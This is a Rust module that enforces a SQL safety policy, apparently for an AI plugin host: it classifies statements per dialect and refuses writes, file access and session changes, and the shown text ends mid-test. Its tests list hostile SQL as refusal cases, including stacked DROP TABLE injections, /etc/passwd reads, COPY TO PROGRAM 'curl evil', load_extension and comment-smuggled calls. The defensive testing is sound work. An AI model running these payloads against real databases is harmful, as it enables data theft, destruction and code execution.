//! The SQL safety policy: every statement a plugin sends to a SQL source is read as its
//! server reads it (`lexer`: comments and escape spellings removed, ambiguous spellings
//! refused), then either accepted by the `screen` as a plain read in a conservative subset
//! of SQL (the fast path, no parse), or parsed for the source's dialect and classified
//! before it runs. The screen only accepts; every refusal comes from the walk of the parsed
//! statement tree, so a write hidden in a CTE, an `EXPLAIN ANALYZE`, a `SELECT ... INTO` or
//! a second statement behind a comment is found where it is, and every function called, in
//! an expression or in FROM, must be on the dialect's allowlist of read-only functions
//! (`functions`).
//!
//! Read-only sources accept reads only (and run them in read-only transactions as well);
//! writable sources accept reads and DML; session, transaction, administrative and file or
//! program access statements are refused everywhere. `sql::execute` runs the canonical text
//! this accepts, so what runs is what was checked.

use std::collections::HashSet;
use std::ops::{ControlFlow, Range};
use std::sync::LazyLock;

use sqlparser::ast::{
    AccessExpr, Expr, Ident, ObjectName, Query, Select, Statement, TableFactor, Visit, Visitor,
};
use sqlparser::dialect::{Dialect, GenericDialect, MySqlDialect, PostgreSqlDialect, SQLiteDialect};
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Location, Token, TokenWithSpan, Tokenizer, Whitespace};

use super::functions::{self, FunctionAllowlist};
use super::lexer;
use super::screen;

pub use super::screen::{is_reserved_word, not_calls_before_parenthesis};
use crate::config::SqlPolicyConfig;

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SqlDialect {
    Postgres,
    Mysql,
    Sqlite,
    /// Trino and Presto (ANSI SQL with their extensions), reached over HTTP by a connector.
    Trino,
}

impl SqlDialect {
    fn parser_dialect(self) -> Box<dyn Dialect> {
        match self {
            Self::Postgres => Box::new(PostgreSqlDialect {}),
            Self::Mysql => Box::new(MySqlDialect {}),
            Self::Sqlite => Box::new(SQLiteDialect {}),
            Self::Trino => Box::new(GenericDialect {}),
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            Self::Postgres => "postgres",
            Self::Mysql => "mysql",
            Self::Sqlite => "sqlite",
            Self::Trino => "trino",
        }
    }

    /// `postgres`, `mysql` (or `mariadb`), `sqlite`, `trino` (or `presto`).
    pub fn parse(name: &str) -> Option<Self> {
        match name.to_ascii_lowercase().as_str() {
            "postgres" | "postgresql" => Some(Self::Postgres),
            "mysql" | "mariadb" => Some(Self::Mysql),
            "sqlite" => Some(Self::Sqlite),
            "trino" | "presto" => Some(Self::Trino),
            _ => None,
        }
    }
}

/// What a statement does, once accepted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StatementClass {
    Read,
    /// INSERT, UPDATE, DELETE, MERGE: only on writable sources.
    Write,
}

/// Why a statement was refused, in words for the model and the operator.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct Refusal(pub String);

/// The policy of one host: the function allowlists (built in, plus the operator's).
#[derive(Debug, Clone, Default)]
pub struct SqlPolicy {
    functions: FunctionAllowlist,
}

/// A statement the policy accepted: what it does and the canonical text to run (comments
/// removed, escape spellings decoded), which is exactly the text that was checked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Checked {
    pub class: StatementClass,
    pub text: String,
}

/// The policy with the built-in allowlists only.
static DEFAULT_POLICY: LazyLock<SqlPolicy> = LazyLock::new(SqlPolicy::default);

/// Parse and classify one statement with the built-in allowlists.
pub fn check(
    dialect: SqlDialect,
    statement: &str,
    writable: bool,
) -> Result<StatementClass, Refusal> {
    DEFAULT_POLICY
        .check(dialect, statement, writable)
        .map(|checked| checked.class)
}

impl SqlPolicy {
    /// The policy of `data.sql_policy`: the built-in allowlists extended by the operator's
    /// `allow_functions`; a malformed or hard-denied name is an error naming its key.
    pub fn from_config(config: &SqlPolicyConfig) -> Result<Self, String> {
        let mut functions = FunctionAllowlist::default();
        for (dialect_name, names) in &config.allow_functions {
            let key = format!("data.sql_policy.allow_functions.{dialect_name}");
            let Some(dialect) = SqlDialect::parse(dialect_name) else {
                return Err(format!(
                    "{key}: unknown SQL dialect `{dialect_name}`; use postgres, mysql, sqlite or trino"
                ));
            };
            functions.extend(dialect, &key, names)?;
        }
        Ok(Self { functions })
    }

    /// Check one statement with no knowledge of a source's own functions (SQL engines reached
    /// over HTTP, tests); `check_for_source` otherwise.
    pub fn check(
        &self,
        dialect: SqlDialect,
        statement: &str,
        writable: bool,
    ) -> Result<Checked, Refusal> {
        self.check_for_source(dialect, statement, writable, &HashSet::new())
    }

    /// Classify one statement for a source. The statement is first read as its server reads
    /// it (`lexer`), then screened or parsed and walked; what runs is `Checked::text`.
    /// `source_calls`: the functions the source's search path makes callable with one
    /// argument (PostgreSQL's field notation `(x).f` calls them).
    pub fn check_for_source(
        &self,
        dialect: SqlDialect,
        statement: &str,
        writable: bool,
        source_calls: &HashSet<String>,
    ) -> Result<Checked, Refusal> {
        if statement.len() > MAX_STATEMENT_BYTES {
            return Err(Refusal(format!(
                "the statement is longer than {MAX_STATEMENT_BYTES} bytes; bind values as parameters instead of writing them into the text"
            )));
        }
        let canonical = lexer::canonicalize_with_literals(dialect, statement)?;
        if screen::accepts_read(dialect, &canonical, &self.functions, source_calls) {
            // The host's own tests run every statement the screen accepts through the walk
            // as well: what the screen accepts, the walk must accept as a read, same text.
            #[cfg(test)]
            assert_eq!(
                self.walk(dialect, canonical.clone(), writable, source_calls),
                Ok(Checked {
                    class: StatementClass::Read,
                    text: canonical.text.clone(),
                }),
                "the screen accepted a statement the walk does not accept as this read: {statement}"
            );
            return Ok(Checked {
                class: StatementClass::Read,
                text: canonical.text,
            });
        }
        self.walk(dialect, canonical, writable, source_calls)
    }

    /// The walk alone (no screen), for tests.
    #[cfg(test)]
    pub(super) fn walked(
        &self,
        dialect: SqlDialect,
        statement: &str,
        writable: bool,
    ) -> Result<Checked, Refusal> {
        let canonical = lexer::canonicalize_with_literals(dialect, statement)?;
        self.walk(dialect, canonical, writable, &HashSet::new())
    }

    /// Whether the screen alone accepts `statement` (the fast path), for tests.
    #[cfg(test)]
    pub(super) fn screened(&self, dialect: SqlDialect, statement: &str) -> bool {
        lexer::canonicalize_with_literals(dialect, statement).is_ok_and(|canonical| {
            screen::accepts_read(dialect, &canonical, &self.functions, &HashSet::new())
        })
    }

    /// The parse and walk of a canonical statement: every statement the screen does not
    /// accept is decided here.
    fn walk(
        &self,
        dialect: SqlDialect,
        canonical: lexer::Canonical,
        writable: bool,
        source_calls: &HashSet<String>,
    ) -> Result<Checked, Refusal> {
        let parser_dialect = dialect.parser_dialect();
        let parsed = parse_one(parser_dialect.as_ref(), dialect, &canonical)?;
        let text = canonical.text;
        let mut walker = Walker {
            dialect,
            functions: &self.functions,
            source_calls,
            writes: Vec::new(),
        };
        if let ControlFlow::Break(refusal) = parsed.visit(&mut walker) {
            return Err(refusal);
        }
        let class = if walker.writes.is_empty() {
            StatementClass::Read
        } else {
            StatementClass::Write
        };
        if class == StatementClass::Write && !writable {
            return Err(Refusal(format!(
                "this source is read-only and the statement writes ({}); ask the operator for a writable source",
                walker.writes.join(", ")
            )));
        }
        Ok(Checked { class, text })
    }
}

/// The longest statement the policy reads (the parser and the walk are linear in it, but a
/// statement is text, not a place for data: values go in parameters).
const MAX_STATEMENT_BYTES: usize = 256 * 1024;

/// The most tokens (white space aside) a statement may have. A chain of operators parses
/// into a tree as deep as it is long, and dropping such a tree recurses once per level: this
/// bound keeps every tree the policy builds shallow enough for a 2 MiB thread stack.
pub(super) const MAX_STATEMENT_TOKENS: usize = 10_000;

/// Tokenize `canonical` as the parser does, check that the parser's tokenizer splits it
/// exactly as the server does, and parse exactly one statement from those tokens.
///
/// The lexical pass knows where the server's literals end; the parser's tokenizer has its
/// own rules (MySQL's `b"..."` without backslash escapes, `#` comments, prefixes such as
/// `E'`, `q'`, `r'` on some dialects). Should it end any quoted token elsewhere, or see a
/// comment (the canonical text has none the server would see), the two read different code
/// and the statement is refused. After the statement only semicolons may follow: the
/// parser's own statement loop would stop at a bare `END` and drop what follows it.
fn parse_one(
    parser_dialect: &dyn Dialect,
    dialect: SqlDialect,
    canonical: &lexer::Canonical,
) -> Result<Statement, Refusal> {
    let unparsable = |e: &dyn std::fmt::Display| {
        Refusal(format!(
            "the statement could not be parsed as {dialect:?} SQL: {e}"
        ))
    };
    let tokens = Tokenizer::new(parser_dialect, &canonical.text)
        .tokenize_with_location()
        .map_err(|e| unparsable(&e))?;
    let significant = tokens
        .iter()
        .filter(|t| !matches!(t.token, Token::Whitespace(_)))
        .count();
    if significant > MAX_STATEMENT_TOKENS {
        return Err(Refusal(format!(
            "the statement has more than {MAX_STATEMENT_TOKENS} tokens; bind values as parameters or split the work"
        )));
    }
    check_literal_boundaries(&canonical.text, &canonical.literals, &tokens)?;
    let mut parser = Parser::new(parser_dialect).with_tokens_with_locations(tokens);
    let parsed = parser.parse_statement().map_err(|e| unparsable(&e))?;
    while parser.consume_token(&Token::SemiColon) {}
    let rest = parser.peek_token();
    if rest.token != Token::EOF {
        return Err(Refusal(format!(
            "send exactly one statement per call: the text goes on after it at `{}` (line {}, column {})",
            rest.token, rest.span.start.line, rest.span.start.column
        )));
    }
    Ok(parsed)
}

/// Refuse unless the parser's tokenizer ends quoted tokens exactly where the server ends
/// its literals, and sees no comment.
fn check_literal_boundaries(
    text: &str,
    literals: &[Range<usize>],
    tokens: &[TokenWithSpan],
) -> Result<(), Refusal> {
    let offsets = LocationIndex::new(text);
    let mut parser_ends = Vec::new();
    for token in tokens {
        match &token.token {
            Token::Whitespace(Whitespace::SingleLineComment { .. })
            | Token::Whitespace(Whitespace::MultiLineComment(_)) => {
                return Err(Refusal(
                    "the parser reads a comment where the database reads code or a literal; rewrite the statement without `#`, `--` or `/*` outside quotes".into(),
                ));
            }
            Token::Whitespace(_) | Token::EOF => {}
            other => {
                let (Some(start), Some(end)) = (
                    offsets.byte_offset(token.span.start),
                    offsets.byte_offset(token.span.end),
                ) else {
                    return Err(Refusal(
                        "the statement could not be mapped back to its text".into(),
                    ));
                };
                let quoted = matches!(other, Token::Word(w) if w.quote_style.is_some())
                    || matches!(other, Token::DollarQuotedString(_))
                    || text
                        .get(start..end)
                        .is_some_and(|t| t.contains(['\'', '"', '`']));
                if quoted {
                    parser_ends.push(end);
                }
            }
        }
    }
    if !parser_ends
        .iter()
        .copied()
        .eq(literals.iter().map(|l| l.end))
    {
        return Err(Refusal(
            "the parser and the database would split this statement's quotes differently (a prefixed or escaped literal); write plain '...' strings".into(),
        ));
    }
    Ok(())
}

/// Byte offsets of the parser's line/column locations (columns count characters; lines
/// end at `\n`).
struct LocationIndex {
    /// Byte offset of each character, and the text's length at the end.
    char_offsets: Vec<usize>,
    /// Index (in `char_offsets`) of the first character of each line.
    line_starts: Vec<usize>,
}

impl LocationIndex {
    fn new(text: &str) -> Self {
        let mut char_offsets = Vec::with_capacity(text.len() + 1);
        let mut line_starts = vec![0];
        for (index, (offset, c)) in text.char_indices().enumerate() {
            char_offsets.push(offset);
            if c == '\n' {
                line_starts.push(index + 1);
            }
        }
        char_offsets.push(text.len());
        Self {
            char_offsets,
            line_starts,
        }
    }

    fn byte_offset(&self, location: Location) -> Option<usize> {
        let line = usize::try_from(location.line).ok()?.checked_sub(1)?;
        let column = usize::try_from(location.column).ok()?.checked_sub(1)?;
        let first = *self.line_starts.get(line)?;
        self.char_offsets.get(first + column).copied()
    }
}

struct Walker<'a> {
    dialect: SqlDialect,
    functions: &'a FunctionAllowlist,
    /// The source's own one-argument functions (field notation can call them).
    source_calls: &'a HashSet<String>,
    writes: Vec<&'static str>,
}

impl Walker<'_> {
    /// A call of `name` (in an expression or in FROM) must be on the allowlist.
    fn check_function(&self, name: &ObjectName) -> ControlFlow<Refusal> {
        let checked = functions::normalize_name(self.dialect, name)
            .and_then(|parts| self.functions.check(self.dialect, &parts));
        match checked {
            Ok(()) => ControlFlow::Continue(()),
            Err(refusal) => ControlFlow::Break(refusal),
        }
    }
}

impl Walker<'_> {
    /// A PostgreSQL field selection `.field` whose name is a function off the allowlist is
    /// refused as that call would be.
    fn check_field(&self, field: &Ident) -> ControlFlow<Refusal> {
        let name = match functions::normalize(self.dialect, field) {
            Ok(name) => name,
            Err(refusal) => return ControlFlow::Break(refusal),
        };
        if !functions::postgres_field_may_call(&name, self.source_calls) {
            return ControlFlow::Continue(());
        }
        match self
            .functions
            .check(self.dialect, std::slice::from_ref(&name))
        {
            Ok(()) => ControlFlow::Continue(()),
            Err(refusal) => ControlFlow::Break(Refusal(format!(
                "`.{name}` is a call on PostgreSQL (field notation runs {name}(x) when there is no such column): {refusal}"
            ))),
        }
    }
}

fn refuse(what: &str) -> ControlFlow<Refusal> {
    ControlFlow::Break(Refusal(format!(
        "{what} is not allowed through the SQL capability"
    )))
}

impl Visitor for Walker<'_> {
    type Break = Refusal;

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<Refusal> {
        match statement {
            Statement::Query(_)
            | Statement::ShowTables { .. }
            | Statement::ShowColumns { .. }
            | Statement::ShowDatabases { .. }
            | Statement::ShowSchemas { .. }
            | Statement::ShowViews { .. }
            | Statement::ShowCreate { .. }
            | Statement::ExplainTable { .. }
            | Statement::Explain { .. } => ControlFlow::Continue(()),
            // Only reading PRAGMAs: the introspection calls (`PRAGMA table_info('t')`) and
            // settings read without a value (`PRAGMA user_version`); some value-less PRAGMAs
            // act (`optimize`, `wal_checkpoint`), so those are listed, not guessed.
            Statement::Pragma { value, is_eq, .. } => {
                if *is_eq || value.is_some() && !is_read_pragma_call(statement) {
                    refuse("a PRAGMA that sets a value")
                } else if value.is_none() && !is_read_pragma_setting(statement) {
                    refuse("this PRAGMA (it is not one of the read-only ones)")
                } else {
                    ControlFlow::Continue(())
                }
            }
            Statement::Insert(_) => {
                self.writes.push("INSERT");
                ControlFlow::Continue(())
            }
            Statement::Update { .. } => {
                self.writes.push("UPDATE");
                ControlFlow::Continue(())
            }
            Statement::Delete(_) => {
                self.writes.push("DELETE");
                ControlFlow::Continue(())
            }
            Statement::Merge { .. } => {
                self.writes.push("MERGE");
                ControlFlow::Continue(())
            }
            Statement::Copy { .. } => refuse("COPY (file and program access)"),
            Statement::LoadData { .. } => refuse("LOAD DATA (file access)"),
            Statement::Set(_) => refuse("SET (session state is managed by the host)"),
            Statement::StartTransaction { .. }
            | Statement::Commit { .. }
            | Statement::Rollback { .. }
            | Statement::Savepoint { .. } => {
                refuse("transaction control (the host runs each statement in its own transaction)")
            }
            Statement::Call(_) => refuse("CALL (procedures can do anything)"),
            Statement::Vacuum(_) => refuse("VACUUM"),
            other => {
                let kind = format!("{other}");
                let first_word = kind
                    .split_whitespace()
                    .next()
                    .unwrap_or("this statement")
                    .to_uppercase();
                ControlFlow::Break(Refusal(format!(
                    "{first_word} is not allowed through the SQL capability: only queries and, on writable sources, INSERT, UPDATE, DELETE and MERGE"
                )))
            }
        }
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<Refusal> {
        if !query.locks.is_empty() {
            return refuse("SELECT ... FOR UPDATE/SHARE (row locks)");
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<Refusal> {
        if select.into.is_some() {
            return refuse("SELECT ... INTO (it creates a table or writes a file)");
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<Refusal> {
        match expr {
            Expr::Function(function) => self.check_function(&function.name),
            // PostgreSQL's field notation is also a call: `(x).f` and `rel.f` run `f(x)`
            // when there is no column `f`; the last part of a name and every `.field` are
            // checked as calls could be.
            Expr::CompoundIdentifier(parts) if self.dialect == SqlDialect::Postgres => {
                match parts.split_first() {
                    Some((_, fields)) => fields
                        .last()
                        .map_or(ControlFlow::Continue(()), |f| self.check_field(f)),
                    None => ControlFlow::Continue(()),
                }
            }
            Expr::CompoundFieldAccess { access_chain, .. }
                if self.dialect == SqlDialect::Postgres =>
            {
                for access in access_chain {
                    if let AccessExpr::Dot(field) = access {
                        match field {
                            Expr::Identifier(ident) => self.check_field(ident)?,
                            Expr::CompoundIdentifier(idents) => {
                                for ident in idents {
                                    self.check_field(ident)?;
                                }
                            }
                            _ => {}
                        }
                    }
                }
                ControlFlow::Continue(())
            }
            _ => ControlFlow::Continue(()),
        }
    }

    /// Functions called in FROM (`SELECT * FROM pg_read_file(...)`, Trino's
    /// `TABLE(catalog.system.query(...))`) are table factors; each kind of table factor is
    /// listed, so a new kind the parser learns is refused until it is reviewed.
    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<Refusal> {
        match factor {
            TableFactor::Table {
                name,
                args: Some(_),
                ..
            }
            | TableFactor::Function { name, .. } => self.check_function(name),
            // SQLite's table-valued functions also run without parentheses, as eponymous
            // virtual tables: `SELECT * FROM pragma_optimize` runs the PRAGMA.
            TableFactor::Table {
                name, args: None, ..
            } if self.dialect == SqlDialect::Sqlite && is_sqlite_eponymous(name) => {
                self.check_function(name)
            }
            // Plain tables and the forms whose calls are expressions the walk visits.
            TableFactor::Table { args: None, .. }
            | TableFactor::Derived { .. }
            | TableFactor::TableFunction { .. }
            | TableFactor::UNNEST { .. }
            | TableFactor::JsonTable { .. }
            | TableFactor::NestedJoin { .. }
            | TableFactor::Pivot { .. }
            | TableFactor::Unpivot { .. }
            | TableFactor::MatchRecognize { .. }
            | TableFactor::XmlTable { .. } => ControlFlow::Continue(()),
            other => ControlFlow::Break(Refusal(format!(
                "this kind of FROM item is not accepted: {other}"
            ))),
        }
    }
}

/// Whether a SQLite relation name is a table-valued function used as a table: the
/// `pragma_*` family and the extension tables that reach outside the database.
fn is_sqlite_eponymous(name: &ObjectName) -> bool {
    name.0
        .last()
        .and_then(|part| part.as_ident())
        .is_some_and(|last| is_sqlite_eponymous_table(&last.value))
}

/// `is_sqlite_eponymous` for one name part, in any case.
pub(super) fn is_sqlite_eponymous_table(table: &str) -> bool {
    let prefix = "pragma_";
    table
        .get(..prefix.len())
        .is_some_and(|start| start.eq_ignore_ascii_case(prefix))
        || ["fsdir", "zipfile", "sqlar"]
            .iter()
            .any(|name| table.eq_ignore_ascii_case(name))
}

/// PRAGMAs that, without a value, only report a setting or list something.
fn is_read_pragma_setting(statement: &Statement) -> bool {
    let Statement::Pragma { name, .. } = statement else {
        return false;
    };
    let name = name.to_string().to_ascii_lowercase();
    let pragma = name.rsplit('.').next().unwrap_or(&name);
    matches!(
        pragma,
        "application_id"
            | "auto_vacuum"
            | "cache_size"
            | "collation_list"
            | "compile_options"
            | "data_version"
            | "database_list"
            | "encoding"
            | "foreign_keys"
            | "freelist_count"
            | "function_list"
            | "journal_mode"
            | "module_list"
            | "page_count"
            | "page_size"
            | "pragma_list"
            | "query_only"
            | "schema_version"
            | "synchronous"
            | "table_list"
            | "user_version"
    )
}

/// The introspection PRAGMAs that take an argument and only read.
fn is_read_pragma_call(statement: &Statement) -> bool {
    let Statement::Pragma { name, is_eq, .. } = statement else {
        return false;
    };
    let name = name.to_string().to_ascii_lowercase();
    let pragma = name.rsplit('.').next().unwrap_or(&name);
    !*is_eq
        && matches!(
            pragma,
            "table_info"
                | "table_xinfo"
                | "index_list"
                | "index_info"
                | "index_xinfo"
                | "foreign_key_list"
                | "table_list"
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    const ALL: [SqlDialect; 3] = [SqlDialect::Postgres, SqlDialect::Mysql, SqlDialect::Sqlite];

    fn refused(dialect: SqlDialect, sql: &str, writable: bool) -> String {
        match check(dialect, sql, writable) {
            Ok(class) => panic!("{dialect:?} accepted `{sql}` as {class:?}"),
            Err(refusal) => refusal.0,
        }
    }

    #[test]
    fn plain_reads_are_accepted_everywhere() {
        for dialect in ALL {
            for sql in [
                "SELECT 1",
                "SELECT id, name FROM users WHERE id = 5 ORDER BY name LIMIT 10",
                "WITH recent AS (SELECT * FROM orders) SELECT count(*) FROM recent",
                "SELECT a.x FROM a JOIN b ON a.id = b.id UNION SELECT y FROM c",
                "EXPLAIN SELECT * FROM t",
                "select ';' as semicolon, '--' as dashes",
            ] {
                assert_eq!(
                    check(dialect, sql, false),
                    Ok(StatementClass::Read),
                    "{dialect:?}: {sql}"
                );
            }
        }
    }

    /// The bypass corpus: every case is refused on every dialect that can parse it, on a
    /// read-only source.
    #[test]
    fn the_bypass_corpus_is_refused() {
        let corpus: &[(&[SqlDialect], &str)] = &[
            (
                &ALL,
                "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
            ),
            (&[SqlDialect::Postgres], "EXPLAIN ANALYZE DELETE FROM users"),
            (&ALL, "EXPLAIN DELETE FROM users"),
            (&[SqlDialect::Postgres], "SELECT * INTO backup FROM users"),
            (
                &[SqlDialect::Mysql],
                "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            ),
            (&ALL, "SELECT 1; DROP TABLE users"),
            (&ALL, "SELECT 1 /* it's fine; */; DELETE FROM users -- '"),
            (&ALL, "SELECT '1'';DROP TABLE users;--'; DELETE FROM t"),
            (&ALL, "COMMIT; DROP TABLE users"),
            (
                &[SqlDialect::Postgres],
                "SELECT * FROM pg_read_file('/etc/passwd')",
            ),
            (
                &[SqlDialect::Postgres],
                "SELECT * FROM pg_catalog.pg_ls_dir('.')",
            ),
            (
                &[SqlDialect::Postgres],
                "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)",
            ),
            (&[SqlDialect::Postgres], "SELECT pg_try_advisory_lock(1)"),
            (
                &[SqlDialect::Postgres],
                "SELECT * FROM pg_advisory_lock_shared(1)",
            ),
            (
                &[SqlDialect::Postgres],
                "SELECT query_to_xml_and_xmlschema('select 1', true, true, '')",
            ),
            (&[SqlDialect::Mysql], "SELECT 1 /*M!, GET_LOCK('x', 0) */"),
            (
                &[SqlDialect::Mysql],
                "SELECT 1 /*!50000 INTO OUTFILE '/tmp/x' */",
            ),
            (
                &[SqlDialect::Mysql],
                "SELECT /*+ MAX_EXECUTION_TIME(100000000) */ 1",
            ),
            (
                &[SqlDialect::Mysql],
                "/*M! SET STATEMENT max_statement_time=0 FOR */ SELECT 1",
            ),
            (&[SqlDialect::Sqlite], "PRAGMA optimize"),
            (&[SqlDialect::Sqlite], "PRAGMA wal_checkpoint"),
            (&[SqlDialect::Sqlite], "PRAGMA incremental_vacuum"),
            (&ALL, "COMMIT"),
            (&ALL, "BEGIN"),
            (
                &[SqlDialect::Postgres, SqlDialect::Mysql],
                "SET search_path = evil",
            ),
            (
                &[SqlDialect::Postgres, SqlDialect::Mysql],
                "SET SESSION sql_mode = ''",
            ),
            (&[SqlDialect::Postgres, SqlDialect::Sqlite], "VACUUM"),
            (&[SqlDialect::Sqlite], "PRAGMA writable_schema = 1"),
            (&[SqlDialect::Sqlite], "PRAGMA journal_mode = DELETE"),
            (&[SqlDialect::Postgres], "SELECT pg_terminate_backend(123)"),
            (
                &[SqlDialect::Postgres],
                "SELECT * FROM users WHERE pg_cancel_backend(1)",
            ),
            (
                &[SqlDialect::Postgres],
                "SELECT pg_read_file('/etc/passwd')",
            ),
            (&[SqlDialect::Postgres], "SELECT nextval('ids')"),
            (
                &[SqlDialect::Postgres],
                "SELECT set_config('role', 'admin', false)",
            ),
            (
                &[SqlDialect::Mysql],
                "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            ),
            (&[SqlDialect::Mysql], "SELECT LOAD_FILE('/etc/passwd')"),
            (&[SqlDialect::Postgres, SqlDialect::Mysql], "CALL cleanup()"),
            (&[SqlDialect::Postgres], "COPY users TO PROGRAM 'curl evil'"),
            (&[SqlDialect::Postgres], "COPY users FROM '/etc/passwd'"),
            (&ALL, "DELETE FROM users"),
            (&ALL, "UPDATE users SET admin = true"),
            (&ALL, "INSERT INTO users (id) VALUES (1)"),
            (&ALL, "DROP TABLE users"),
            (&ALL, "CREATE TABLE t (x INT)"),
            (&ALL, "ALTER TABLE users ADD COLUMN x INT"),
            (
                &[SqlDialect::Postgres, SqlDialect::Mysql],
                "TRUNCATE TABLE users",
            ),
            (
                &[SqlDialect::Postgres, SqlDialect::Mysql],
                "GRANT ALL ON users TO public",
            ),
            (
                &[SqlDialect::Postgres, SqlDialect::Mysql],
                "SELECT * FROM users FOR UPDATE",
            ),
            (&[SqlDialect::Sqlite], "ATTACH DATABASE '/tmp/x.db' AS x"),
            (
                &[SqlDialect::Sqlite],
                "SELECT load_extension('/tmp/evil.so')",
            ),
            (
                &ALL,
                "SELECT * FROM (SELECT 1) AS t WHERE 1 = (SELECT 1); SELECT 2",
            ),
            (&ALL, ""),
            (&ALL, "this is not sql"),
        ];
        for (dialects, sql) in corpus {
            for dialect in *dialects {
                let reason = refused(*dialect, sql, false);
                assert!(!reason.is_empty(), "{dialect:?}: {sql}");
            }
        }
    }

    #[test]
    fn writable_sources_take_dml_but_not_ddl_or_session_changes() {
        for dialect in ALL {
            assert_eq!(
                check(dialect, "DELETE FROM t WHERE id = 1", true),
                Ok(StatementClass::Write)
            );
            assert_eq!(
                check(dialect, "INSERT INTO t (id) VALUES (1)", true),
                Ok(StatementClass::Write)
            );
            assert_eq!(
                check(
                    dialect,
                    "WITH d AS (DELETE FROM t RETURNING id) SELECT * FROM d",
                    true
                ),
                Ok(StatementClass::Write),
                "{dialect:?}"
            );
            assert!(refused(dialect, "DROP TABLE t", true).contains("DROP"));
            assert!(check(dialect, "COMMIT", true).is_err());
        }
    }

    #[test]
    fn refusals_say_why() {
        assert!(
            refused(SqlDialect::Postgres, "SELECT 1; SELECT 2", false)
                .contains("exactly one statement")
        );
        assert!(refused(SqlDialect::Postgres, "DELETE FROM t", false).contains("read-only"));
        assert!(
            refused(
                SqlDialect::Postgres,
                "SELECT pg_terminate_backend(1)",
                false
            )
            .contains("pg_terminate_backend")
        );
        assert!(refused(SqlDialect::Postgres, "SELECT * INTO x FROM t", false).contains("INTO"));
    }

    #[test]
    fn read_pragmas_are_accepted_on_sqlite() {
        for sql in [
            "PRAGMA table_info('users')",
            "PRAGMA user_version",
            "PRAGMA foreign_keys",
        ] {
            assert_eq!(
                check(SqlDialect::Sqlite, sql, false),
                Ok(StatementClass::Read),
                "{sql}"
            );
        }
    }

    #[test]
    fn comment_markers_inside_strings_and_plain_comments_are_fine_on_mysql() {
        for sql in [
            "SELECT '/*! not a comment */' AS x",
            "SELECT 1 /* an ordinary comment */",
            "SELECT `/*+` FROM t",
            "SELECT 'it''s /*M! */' -- a line comment\n",
        ] {
            assert_eq!(
                check(SqlDialect::Mysql, sql, false),
                Ok(StatementClass::Read),
                "{sql}"
            );
        }
    }

    #[test]
    fn what_runs_is_the_checked_canonical_text() {
        let policy = SqlPolicy::default();
        let checked = policy
            .check(
                SqlDialect::Postgres,
                "SELECT U&\"l\\006Fwer\"('A') -- note\n/* x */ FROM t",
                false,
            )
            .unwrap();
        assert_eq!(checked.class, StatementClass::Read);
        assert_eq!(checked.text, "SELECT \"lower\"('A')  \n  FROM t");
    }

    #[test]
    fn every_spelling_of_a_denied_function_is_refused() {
        for (dialect, sql) in [
            (
                SqlDialect::Postgres,
                r#"SELECT U&"pg_re\0061d_file"('/etc/passwd')"#,
            ),
            (
                SqlDialect::Postgres,
                r#"SELECT U&"pg_re!0061d_file" UESCAPE '!' ('/etc/passwd')"#,
            ),
            (
                SqlDialect::Postgres,
                r#"SELECT "pg_read_file"('/etc/passwd')"#,
            ),
            (SqlDialect::Postgres, "SELECT PG_READ_FILE('/etc/passwd')"),
            (SqlDialect::Postgres, "SELECT pg_catalog.pg_read_file('x')"),
            (
                SqlDialect::Postgres,
                "SELECT pg_logical_emit_message(false, 'a', 'b')",
            ),
            (SqlDialect::Postgres, "SELECT * FROM ts_stat('SELECT 1')"),
            (SqlDialect::Postgres, "SELECT txid_current()"),
            (SqlDialect::Postgres, "SELECT pg_stat_reset()"),
            (SqlDialect::Postgres, "SELECT * FROM pg_ls_waldir()"),
            (SqlDialect::Mysql, "SELECT `GET_LOCK`('x', 0)"),
            (
                SqlDialect::Mysql,
                "SELECT 1 --1 /*M!, LOAD_FILE('/etc/passwd') */",
            ),
            (SqlDialect::Sqlite, "SELECT [load_extension]('x')"),
            (
                SqlDialect::Trino,
                "SELECT * FROM TABLE(mysql.system.query(query => 'DELETE FROM t'))",
            ),
            (
                SqlDialect::Trino,
                "SELECT * FROM TABLE(system.query(query => 'x'))",
            ),
        ] {
            let reason = refused(dialect, sql, false);
            assert!(!reason.is_empty(), "{dialect:?}: {sql}");
            if dialect == SqlDialect::Trino {
                assert!(reason.contains("runs SQL text"), "{sql}: {reason}");
            }
        }
        // Trino's own table functions that only compute still run.
        assert_eq!(
            check(
                SqlDialect::Trino,
                "SELECT * FROM TABLE(sequence(start => 1, stop => 3))",
                false
            ),
            Ok(StatementClass::Read)
        );
    }

    #[test]
    fn names_the_servers_read_whole_are_checked_whole() {
        // MySQL and MariaDB names may start with `$` or a digit and hold `$`: `$lower` and
        // `1abc` are stored functions there, not `lower` or a number.
        for sql in [
            "SELECT $lower(1)",
            "SELECT a$lower(1)",
            "SELECT 1lower(1)",
            "SELECT x FROM t WHERE $upper(x) = 1",
        ] {
            refused(SqlDialect::Mysql, sql, false);
        }
        refused(SqlDialect::Postgres, "SELECT lower$1(1)", false);
    }

    #[test]
    fn functions_off_the_allowlist_are_refused_with_the_key_that_allows_them() {
        let reason = refused(
            SqlDialect::Postgres,
            "SELECT similarity(a, b) FROM t",
            false,
        );
        assert!(
            reason.contains("data.sql_policy.allow_functions.postgres"),
            "{reason}"
        );
        let mut config = SqlPolicyConfig::default();
        config
            .allow_functions
            .insert("postgres".into(), vec!["similarity".into()]);
        let policy = SqlPolicy::from_config(&config).unwrap();
        assert!(
            policy
                .check(
                    SqlDialect::Postgres,
                    "SELECT similarity(a, b) FROM t",
                    false
                )
                .is_ok()
        );
        config
            .allow_functions
